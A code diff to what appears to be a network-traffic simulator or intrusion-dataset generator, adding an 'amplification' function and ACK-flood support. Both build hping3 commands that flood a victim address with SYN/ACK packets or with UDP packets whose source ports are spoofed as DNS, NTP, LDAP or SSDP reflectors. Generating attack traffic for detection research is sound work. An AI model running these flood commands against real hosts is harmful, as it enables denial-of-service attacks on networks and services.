@@ -72,7 +72,7 @@ def ping_sweep(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
 def flood(*kind: str) -> Activity:
     """hping3 sends this many packets at this interval; the network may have it forge its sources."""
     def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
-        tcp = "-S" in kind
+        tcp = bool({"-S", "-A"} & {*kind})
         options = numbers.choice(((), ("--tcp-mss", "1460"), ("--tcp-mss", "1400", "--tcp-timestamp")))
         look = (("-w", str(numbers.choice((512, 1024, 5840, 29200, 64240, 65535))), *options, "-p", str(plan.services.web)) if tcp else
                 ("-d", str(numbers.choice((0, 18, 64, 512, 1200)))))
@@ -83,6 +83,14 @@ def flood(*kind: str) -> Activity:
         return [Command(0.2, (*HPING, *kind, *look, *target, "-i", f"u{interval}", "-c", str(count),
                               str(plan.victim.address)), 20)]
     return commands
+
+
+def amplification(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
+    """Long answers that the victim has not asked for, from a service's port to one port of the victim."""
+    interval = numbers.choice((100, 300, 700))
+    return [Command(0.2, (*HPING, "-2", "--keep", "-s", numbers.choice(("53", "123", "389", "1900")), "-p", str(numbers.choice((80, 443, 40000))),
+                          "-d", str(numbers.choice((300, 468, 1200))), "-i", f"u{interval}", "-c", str(min(plan.packets // 2, 4_000_000 // interval)),
+                          str(plan.victim.address)), 20)]
 
 
 def write_words(count: int, numbers: random.Random) -> list[str]:
